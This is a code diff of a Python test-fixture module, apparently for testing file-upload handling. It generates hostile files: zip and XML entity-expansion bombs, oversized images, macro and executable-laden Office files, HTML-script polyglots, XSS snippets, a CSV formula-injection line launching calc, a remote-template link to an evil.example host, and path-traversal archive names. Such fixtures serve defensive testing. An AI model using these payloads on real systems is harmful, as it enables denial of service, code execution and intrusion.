@@ -1,10 +1,15 @@
-"""Files that nobody means well with: bombs, two things at once, lies, halves, giants, programs, names that lead out."""
+"""Files that nobody means well with: bombs, two things at once, lies, halves, giants, programs, names that lead out.
+
+Each is a sort of its own, with the door that it is meant for.
+"""
 
 import random
 import struct
 import zlib
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from io import BytesIO
+from typing import Final, Literal
 from zipfile import ZIP_DEFLATED, ZipFile
 
 from PIL import Image
@@ -13,6 +18,18 @@ from content.seed import source
 from tests.content.words import report
 
 Named = tuple[str, bytes]
+Made = Callable[[random.Random], Named]
+
+Door = Literal["files", "document", "zip", "captions", "logo"]
+
+
+@dataclass(frozen=True)
+class Sort:
+    """A sort of hostile file. `make` gives one; `door` is where it would do most harm."""
+
+    door: Door
+    make: Made
+
 
 DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9" height="9">{}</svg>'
 TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
@@ -93,125 +110,152 @@ def moving(form: str) -> bytes:
     return written.getvalue()
 
 
-def good(chance: random.Random) -> Named:
-    names = ("lascel-tijdens-proef.jpg", "keurstation.svg", "uitval-26-weken-terp.csv")
-    every = [*((name, source.file(name)) for name in names), ("a.docx", report(pictures=1)), ("a.png", png(900, 700))]
-    every.append(("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"))
-    every.append(("a.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(5_000)))
-    every.append(("a.stl", b"solid x\nfacet normal 0 0 0\nendsolid x"))
-    return chance.choice(every)
+def _good() -> Iterator[Made]:
+    for name in ("lascel-tijdens-proef.jpg", "keurstation.svg", "uitval-26-weken-terp.csv"):
+        yield _fixed(name, source.file(name))
+    yield lambda _chance: ("a.docx", report(pictures=1))
+    yield lambda _chance: ("a.png", png(900, 700))
+    yield _fixed("a.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF")
+    yield _fixed("a.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(5_000))
+    yield _fixed("a.stl", b"solid x\nfacet normal 0 0 0\nendsolid x")
 
 
-def bomb(chance: random.Random) -> Named:
-    zeros = bytes(chance.choice((60, 150, 210)) * 1_000_000)
-    laughs = (
-        "<!DOCTYPE a [<!ENTITY b '"
-        + "x" * 1_000
-        + "'>"
-        + "".join(f"<!ENTITY c{n} '{('&b;' if n == 0 else f'&c{n - 1};') * 20}'>" for n in range(8))
-        + "]>"
-    )
-    made: tuple[Callable[[], Named], ...] = (
-        lambda: ("bom.docx", word(**{"word/media/x.bin": zeros})),
-        lambda: ("bom.docx", word(**{"word/_rels/document.xml.rels": zeros})),
-        lambda: ("bom.docx", container({"[Content_Types].xml": zeros, "word/document.xml": "<x/>"})),
-        lambda: ("bom.docx", container({"[Content_Types].xml": TYPES, "word/document.xml": f"{laughs}<w>&c7;</w>"})),
-        lambda: ("bom.docx", word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000)),
-        lambda: ("bom.docx", word("<w:tbl><w:tr><w:tc>" * 30_000)),
-        lambda: ("bom.xlsx", container({"[Content_Types].xml": TYPES, "xl/workbook.xml": zeros})),
-        lambda: ("bom.docx", word(**{f"word/x{n}.xml": "" for n in range(10_000)})),
-        lambda: ("bom.png", png(60_000, 60_000, 30_000)),
-        lambda: ("bom.png", png(6_300, 6_300)),
-        lambda: ("bom.png", png(16_000, 2_500)),
-        lambda: ("bom.svg", (laughs + DRAWING.format("<text>&c7;</text>")).encode()),
-        lambda: ("bom.csv", b"a,b\n" * 4_000_000),
-        lambda: ("bom.webp", moving("WEBP")),
-        lambda: ("bom.png", moving("PNG")),
-        lambda: ("bom.jpg", moving("GIF")),
-    )
-    return chance.choice(made)()
+def _fixed(name: str, data: bytes) -> Made:
+    return lambda _chance: (name, data)
 
 
-def program(chance: random.Random) -> Named:
-    every = (
-        ("macro.docx", word(**{"word/vbaProject.bin": "x"})),
-        (
-            "macro.xlsx",
-            container({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/a.xml": "x"}),
+GOOD: Final = tuple(_good())
+
+LAUGHS: Final = (
+    "<!DOCTYPE a [<!ENTITY b '"
+    + "x" * 1_000
+    + "'>"
+    + "".join(f"<!ENTITY c{n} '{('&b;' if n == 0 else f'&c{n - 1};') * 20}'>" for n in range(8))
+    + "]>"
+)
+
+
+def zeros(chance: random.Random) -> bytes:
+    """What packs to next to nothing."""
+    return bytes(chance.choice((60, 150, 210)) * 1_000_000)
+
+
+BOMBS: Final[tuple[tuple[str, Callable[[random.Random], bytes]], ...]] = (
+    ("bom.docx", lambda chance: word(**{"word/media/x.bin": zeros(chance)})),
+    ("bom.docx", lambda chance: word(**{"word/_rels/document.xml.rels": zeros(chance)})),
+    ("bom.docx", lambda chance: container({"[Content_Types].xml": zeros(chance), "word/document.xml": "<x/>"})),
+    (
+        "bom.docx",
+        lambda _chance: container({"[Content_Types].xml": TYPES, "word/document.xml": f"{LAUGHS}<w>&c7;</w>"}),
+    ),
+    ("bom.docx", lambda _chance: word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000)),
+    ("bom.docx", lambda _chance: word("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 200_000)),
+    ("bom.docx", lambda _chance: word("<w:tbl><w:tr><w:tc>" * 30_000)),
+    ("bom.docx", lambda _chance: word(**{f"word/x{n}.xml": "" for n in range(10_000)})),
+    ("bom.docx", lambda _chance: word(**{f"word/x{n}.xml": bytes(99_000) for n in range(1_900)})),
+    ("bom.xlsx", lambda chance: container({"[Content_Types].xml": TYPES, "xl/workbook.xml": zeros(chance)})),
+    ("bom.png", lambda _chance: png(60_000, 60_000, 3_000)),
+    ("bom.png", lambda _chance: png(6_300, 6_300)),
+    ("bom.png", lambda _chance: png(16_000, 2_500)),
+    ("bom.png", lambda _chance: png(5_400, 5_400)),
+    ("bom.svg", lambda _chance: (LAUGHS + DRAWING.format("<text>&c7;</text>")).encode()),
+    ("bom.csv", lambda _chance: b"a,b\n" * 4_000_000),
+    ("bom.webp", lambda _chance: moving("WEBP")),
+    ("bom.png", lambda _chance: moving("PNG")),
+    ("bom.jpg", lambda _chance: moving("GIF")),
+)
+
+PROGRAMS: Final = (
+    ("macro.docx", word(**{"word/vbaProject.bin": "x"})),
+    ("macro.xlsx", container({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/a.xml": "x"})),
+    ("ole.docx", word(**{"word/embeddings/a.exe": b"MZ"})),
+    (
+        "haalt.docx",
+        word(
+            **{
+                "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                'relationships"><Relationship Id="a" Type="http://x/attachedTemplate" '
+                'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+            }
         ),
-        ("ole.docx", word(**{"word/embeddings/a.exe": b"MZ"})),
-        ("haalt.docx", word(**{"word/_rels/settings.xml.rels": _outside()})),
-        ("oud.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)),
-        ("prog.jpg", b"MZ" + bytes(5_000)),
-        ("prog.pdf", b"\x7fELF" + bytes(5_000)),
-        ("pagina.csv", b"<!doctype html><script>alert(1)</script>"),
-        ("pagina.txt", b"<html><body onload=alert(1)>"),
-        ("formule.csv", b"=cmd|'/C calc'!A0,@SUM(1),+1,-1\n"),
-        ("x.html", b"<script>alert(1)</script>"),
-        ("x.zip", container({"a": b"b"})),
-    )
-    return chance.choice((*every, *((f"{n}.svg", DRAWING.format(one).encode()) for n, one in enumerate(SVGS))))
+    ),
+    ("oud.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)),
+    ("prog.jpg", b"MZ" + bytes(5_000)),
+    ("prog.pdf", b"\x7fELF" + bytes(5_000)),
+    ("pagina.csv", b"<!doctype html><script>alert(1)</script>"),
+    ("pagina.txt", b"<html><body onload=alert(1)>"),
+    ("formule.csv", b"=cmd|'/C calc'!A0,@SUM(1),+1,-1\n"),
+    ("x.html", b"<script>alert(1)</script>"),
+    ("x.zip", container({"a": b"b"})),
+    *((f"{n}.svg", DRAWING.format(one).encode()) for n, one in enumerate(SVGS)),
+)
 
+PAGE: Final = b"<html><script>alert(1)</script></html>"
+PHOTO: Final = source.file("lascel-tijdens-proef.jpg")
 
-def _outside() -> str:
-    return (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
-        'Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
-    )
-
-
-def both(chance: random.Random) -> Named:
-    """Two things at once."""
-    page = b"<html><script>alert(1)</script></html>"
-    photo = source.file("lascel-tijdens-proef.jpg")
-    every = (
-        ("twee.jpg", photo + page),
-        ("twee.jpg", photo + container({"a.html": page})),
-        ("twee.png", png(90, 90) + page),
-        ("twee.pdf", b"%PDF-1.4\n" + page),
-        ("twee.pdf", page + b"%PDF-1.4\n"),
-        ("twee.docx", page + report(pictures=0)),
-        ("twee.csv", b"a,b\n" + page),
-        ("twee.jpg", b"GIF89a/*" + page + b"*/=1;"),
-        ("twee.step", b"ISO-10303-21;" + page + b"END-ISO-10303-21;"),
-        ("twee.stl", b"solid " + page + b" facet endsolid"),
-        ("twee.mp4", b"\x00\x00\x00\x18ftypmp42" + page),
-        ("twee.svg", b"<?xml version='1.0'?>" + page + DRAWING.format("").encode()),
-    )
-    return chance.choice(every)
+TWO_AT_ONCE: Final = (
+    ("twee.jpg", PHOTO + PAGE),
+    ("twee.jpg", PHOTO + container({"a.html": PAGE})),
+    ("twee.png", png(90, 90) + PAGE),
+    ("twee.pdf", b"%PDF-1.4\n" + PAGE),
+    ("twee.pdf", PAGE + b"%PDF-1.4\n"),
+    ("twee.docx", PAGE + report(pictures=0)),
+    ("twee.csv", b"a,b\n" + PAGE),
+    ("twee.jpg", b"GIF89a/*" + PAGE + b"*/=1;"),
+    ("twee.step", b"ISO-10303-21;" + PAGE + b"END-ISO-10303-21;"),
+    ("twee.stl", b"solid " + PAGE + b" facet endsolid"),
+    ("twee.mp4", b"\x00\x00\x00\x18ftypmp42" + PAGE),
+    ("twee.svg", b"<?xml version='1.0'?>" + PAGE + DRAWING.format("").encode()),
+)
 
 
 def damaged(chance: random.Random) -> Named:
-    """A good one, cut short or with other bytes here and there."""
-    name, data = good(chance)
+    """A good one with other bytes here and there."""
+    name, data = chance.choice(GOOD)(chance)
     hurt = bytearray(data)
-    if chance.random() < 0.5:
-        return name, bytes(hurt[: chance.randrange(len(hurt))])
     for _ in range(chance.randint(1, 30)):
         hurt[chance.randrange(len(hurt))] = chance.randrange(256)
     return name, bytes(hurt)
 
 
+def cut_short(chance: random.Random) -> Named:
+    """The beginning of a good one."""
+    name, data = chance.choice(GOOD)(chance)
+    return name, data[: chance.randrange(len(data))]
+
+
 def lying(chance: random.Random) -> Named:
     """One kind under the name of another."""
-    (name, _), (_other, data) = good(chance), good(chance)
+    (name, _), (_other, data) = chance.choice(GOOD)(chance), chance.choice(GOOD)(chance)
     return name, data
 
 
-def named(chance: random.Random) -> Named:
+def named(name: str) -> Made:
     """Names that lead out, end elsewhere or mean something to somebody."""
-    return chance.choice(NAMES), b"a,b\n1,%d\n" % chance.randrange(10**9)
+    return lambda chance: (name, b"a,b\n1,%d\n" % chance.randrange(10**9))
 
 
-def leading_out(chance: random.Random) -> Named:
-    """Names inside a container."""
-    name = chance.choice(("../../../etc/x", "/etc/x", "C:\\x", "word\\..\\x", "word/../../x"))
-    return "uit.docx", word(**{name: b"x"})
+LEADING_OUT: Final = ("../../../etc/x", "/etc/x", "C:\\x", "word\\..\\x", "word/../../x")
 
 
-KINDS = (good, bomb, program, both, damaged, lying, named, leading_out)
+def _of(name: str) -> Door:
+    return "document" if name.endswith(".docx") else "files"
 
 
-def hostile_file(chance: random.Random, at: int) -> Named:
-    """One of each kind in turn."""
-    return KINDS[at % len(KINDS)](chance)
+def _fixed_sort(door: Door, name: str, data: bytes) -> Sort:
+    return Sort(door, _fixed(name, data))
+
+
+def _bomb(door: Door, name: str, data: Callable[[random.Random], bytes]) -> Sort:
+    return Sort(door, lambda chance: (name, data(chance)))
+
+
+def file_sorts() -> Iterator[Sort]:
+    """Every sort that comes in by itself."""
+    yield from (Sort("files", make) for make in (*GOOD, damaged, cut_short, lying))
+    yield from (_bomb(_of(name), name, data) for name, data in BOMBS)
+    yield from (_fixed_sort(_of(name), name, data) for name, data in (*PROGRAMS, *TWO_AT_ONCE))
+    yield from (Sort("files", named(name)) for name in NAMES)
+    yield from (_fixed_sort("document", "uit.docx", word(**{name: b"x"})) for name in LEADING_OUT)
+    yield from (_bomb("logo", "logo.png", data) for name, data in BOMBS if name != "bom.docx")
+    yield from (_fixed_sort("logo", "logo.png", data) for _name, data in TWO_AT_ONCE)
